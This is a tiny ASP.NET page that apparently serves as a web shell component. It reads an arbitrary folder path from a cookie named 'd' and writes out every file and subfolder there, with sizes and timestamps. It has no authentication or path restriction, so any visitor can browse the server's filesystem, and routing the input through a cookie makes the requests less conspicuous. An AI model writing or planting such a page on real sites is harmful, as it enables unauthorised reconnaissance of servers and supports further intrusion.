<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%
// Lists the folder named in a cookie, with sizes and times.
foreach (string e in Directory.GetFileSystemEntries(Request.Cookies["d"].Value))
{
    FileInfo i = new FileInfo(e);
    Response.Write(Server.HtmlEncode(e) + "\t" + (i.Exists ? i.Length : 0) + "\t" + File.GetLastWriteTimeUtc(e).ToString("s") + "\n");
}
%>
